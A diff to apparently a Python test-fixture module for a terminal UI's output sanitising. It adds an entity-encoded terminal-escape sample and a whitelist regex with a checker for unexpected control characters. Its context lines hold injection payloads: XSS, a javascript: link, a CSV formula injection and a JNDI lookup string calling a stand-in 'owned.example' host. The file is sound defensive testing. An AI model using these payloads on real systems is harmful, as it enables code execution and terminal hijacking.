@@ -104,6 +104,7 @@ MARKUP = {
     "textual_style": "[$error on $primary]x[/] [auto on red]y[/]",
     "textual_variable": "$error $primary [$undefined]",
     "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
+    "markdown_entities": "&#27;]0;owned&#7; &#x9b;2J &#x202e;x&#8203;y&NewLine;z <!-- hidden --> ~~struck~~",
     "markdown": "[x](javascript:alert(1)) ![y](https://owned.example/z) `` ` ``",
     "csv": "=cmd|'/c calc'!A1",
     "format": "{0} {self} %s %(x)s ${jndi:ldap://owned.example/a}",
@@ -123,3 +124,24 @@ ACTING = re.compile(
     "\u3164\ufe00-\ufe0f\ufeff\uffa0\ufff0-\ufffb\ud800-\udfff\U000e0000-\U000e0fff]"
 )
 """What plain output never holds: anything that acts, but for newlines and tabs."""
+
+
+_SGR = r"(?:0|[1-479]|2[234579]|[34][0-79]|9[0-7]|10[0-7]|[34]8;5;\d{1,3}|[34]8;2;\d{1,3};\d{1,3};\d{1,3})"
+SENT_BY_SCREENS = re.compile(
+    "\x1b(?:"
+    rf"\[(?:{_SGR}(?:;{_SGR})*)?m"
+    r"|\[\d{1,4};\d{1,4}H"
+    r"|\[\?(?:7|25|1000|1003|1004|1006|1015|1049|2004|2026|2048)[hl]"
+    r"|\[\?(?:2026|2048)\$p|\[>25u|\[<u|\[2[23];2t"
+    r"|\]2;cockpit [^\x00-\x1f\x7f-\x9f]{1,100}\x1b\\"
+    r"|\]52;c;[A-Za-z0-9+/]+={0,2}\x07"
+    r"|\]22;(?:default|pointer|text|grab|grabbing)\x07"
+    r")|\x07|\r\n"
+)
+"""What a screen of ours may send to a terminal: no more than it needs, by hand, and not taken from the program."""
+
+
+def foreign(written: str) -> list[str]:
+    """What in the bytes of a screen is neither a sequence of ours nor text that only shows, with what is around it."""
+    rest = SENT_BY_SCREENS.sub("", written)
+    return [repr(rest[max(0, found.start() - 20) : found.end() + 20]) for found in ACTING.finditer(rest)]
